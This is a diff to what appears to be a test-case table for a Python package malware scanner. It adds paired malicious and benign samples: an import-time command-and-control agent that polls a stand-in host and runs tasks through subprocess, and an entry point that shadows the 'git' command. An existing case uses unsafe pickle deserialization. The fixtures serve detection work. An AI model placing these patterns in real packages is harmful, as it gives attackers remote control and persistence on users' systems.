@@ -443,6 +443,35 @@ CASES: list[tuple[str, str | bytes, str | bytes, str, str]] = [
         "wheel",
     ),
     (
+        "reverse-shell.remote-control",
+        "import subprocess, requests\n"
+        "class Agent:\n"
+        "    def __init__(self):\n        self.s = requests.Session()\n"
+        "    def run(self):\n"
+        "        task = self.s.get('https://c2.example.invalid/task').json()\n"
+        "        handlers = {'x': self.do}\n"
+        "        handlers[task['k']](task)\n"
+        "    def do(self, task):\n"
+        "        subprocess.run(['uname'])\n"
+        "import threading\nthreading.Thread(target=Agent().run).start()\n",
+        # The same client used only when the application asks.
+        "import subprocess, requests\n"
+        "class Agent:\n"
+        "    def __init__(self):\n        self.s = requests.Session()\n"
+        "    def run(self):\n"
+        "        task = self.s.get('https://api.example.invalid/task').json()\n"
+        "        subprocess.run(['uname'])\n",
+        "pkg/__init__.py",
+        "wheel",
+    ),
+    (
+        "persistence.command-shadow",
+        "[console_scripts]\ngit = gitx.cli:main\n",
+        "[console_scripts]\ngitx = gitx.cli:main\n",
+        "gitx-1.0.dist-info/entry_points.txt",
+        "wheel",
+    ),
+    (
         "unsafe-deserialization.pickle",
         "import pickle\ndef f(data):\n    return pickle.loads(data)\n",
         "import json\ndef f(data):\n    return json.loads(data)\n",
